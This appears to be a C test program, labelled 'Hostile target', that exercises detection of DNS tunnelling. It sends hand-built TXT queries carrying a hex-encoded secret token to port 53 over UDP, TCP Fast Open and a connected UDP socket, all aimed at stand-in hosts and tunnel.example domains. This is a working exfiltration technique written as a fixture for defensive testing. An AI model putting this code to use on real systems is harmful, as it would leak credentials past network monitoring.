/* Hostile target: DNS tunnelling without the system resolver.  A query
 * whose first label is 60 hex characters of data goes straight to a
 * resolver's port 53, over UDP (sendto) and over TCP with the 2-byte
 * length prefix (on a TCP Fast Open
 * socket: sendto(MSG_FASTOPEN) names the server), and with write() on a
 * connected UDP socket. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

static size_t query(unsigned char *q, const char *label, const char *domain)
{
	static const unsigned char head[12] = { 0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0 };
	size_t n = sizeof(head);
	memcpy(q, head, n);
	char name[256];
	snprintf(name, sizeof(name), "%s.%s", label, domain);
	for (char *tok = strtok(name, "."); tok; tok = strtok(NULL, ".")) {
		q[n++] = (unsigned char)strlen(tok);
		memcpy(q + n, tok, strlen(tok));
		n += strlen(tok);
	}
	q[n++] = 0;
	q[n++] = 0; q[n++] = 16; /* TXT */
	q[n++] = 0; q[n++] = 1;  /* IN */
	return n;
}

int main(void)
{
	const char *hex = "5365637265745f746f6b656e3d414b4941494f53464f444e4e374558414d";
	unsigned char q[512];
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(53) };
	inet_pton(AF_INET, "10.255.255.1", &sa.sin_addr);

	int u = socket(AF_INET, SOCK_DGRAM, 0);
	size_t n = query(q, hex, "udp.tunnel.example");
	ssize_t r = sendto(u, q, n, 0, (struct sockaddr *)&sa, sizeof(sa));
	printf("udp sendto = %zd\n", r);

	int t = socket(AF_INET, SOCK_STREAM, 0);
	n = query(q, hex, "tcp.tunnel.example");
	unsigned char len[2] = { (unsigned char)(n >> 8), (unsigned char)n };
	unsigned char msg[514];
	memcpy(msg, len, 2);
	memcpy(msg + 2, q, n);
	r = sendto(t, msg, n + 2, MSG_FASTOPEN, (struct sockaddr *)&sa, sizeof(sa));
	printf("tcp sendto(MSG_FASTOPEN) = %zd\n", r);
	/* and a connected UDP socket: a plain write() of the message */
	int c = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in lo = { .sin_family = AF_INET, .sin_port = htons(53) };
	inet_pton(AF_INET, "127.0.0.1", &lo.sin_addr);
	connect(c, (struct sockaddr *)&lo, sizeof(lo));
	n = query(q, hex, "write.tunnel.example");
	r = write(c, q, n);
	printf("udp write = %zd\n", r);
	return 0;
}
